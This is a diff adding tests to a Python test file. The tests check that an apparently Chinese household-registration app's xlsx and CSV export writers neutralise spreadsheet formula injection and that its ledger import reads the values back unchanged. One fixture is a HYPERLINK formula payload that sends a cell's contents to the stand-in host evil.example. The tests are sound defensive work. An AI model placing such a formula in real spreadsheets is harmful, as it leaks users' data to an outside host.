@@ -3,15 +3,19 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
+import zipfile
 from datetime import date
 
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import func, select
 
 from tests.conftest import csrf_from, login, make_id
+from transfers.exports.cells import csv_row
 from transfers.households.models import Household, Person
+from transfers.imports.ledger import open_sheet, write_rows_xlsx
 from transfers.imports.models import ImportBatch
 from workflows.roles import Role
 
@@ -386,3 +390,37 @@ def test_cli_import_ledger(app, geo, db, tmp_path):
     assert (
         "4 already registered" in again.output and "created 0 households, 0 persons" in again.output
     )
+
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
+
+
+def _formulas(xlsx: bytes) -> list[str]:
+    """The formula elements of every sheet of a workbook, as stored."""
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", z.read(n).decode())]
+
+
+def test_error_workbook_writes_formula_like_text_as_text():  # type: ignore[no-untyped-def]
+    out = io.BytesIO()
+    row = [EVIL, "-", "+86 138", "@SUM(A1)", "\tx", -5, 3.5, None]
+    write_rows_xlsx(out, ["姓名", "联系电话", "a", "b", "c", "d", "e", "f"], iter([row]))
+    assert _formulas(out.getvalue()) == []
+    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2))[0]
+    assert [c.value for c in cells] == row[:-1] + [None]  # exactly as written
+    assert [c.data_type for c in cells[:5]] == ["s"] * 5 and cells[0].quotePrefix
+    assert cells[5].data_type == "n"  # a negative number stays a number
+
+
+def test_ledger_csv_fields_quoted_against_formulas_read_back_as_written(tmp_path):  # type: ignore[no-untyped-def]
+    """What our CSV writer quotes ('=…, '-) the ledger import reads back unquoted; a
+    value that merely starts with an apostrophe is kept."""
+    headers = ["姓名", "身份证号码", "户编号", "与户主关系", "迁出地区划代码", "迁入地区划代码"]
+    values = ["王建国", EVIL, "-", "-5", "'hello", "'", "+1"]
+    path = tmp_path / "台账.csv"
+    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
+        csv.writer(fh).writerows([csv_row([*headers, "安置方式"]), csv_row(values)])
+    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
+    sheet = open_sheet(path, "台账.csv")
+    assert [cells for _no, cells, _lossy in sheet.rows] == [values]
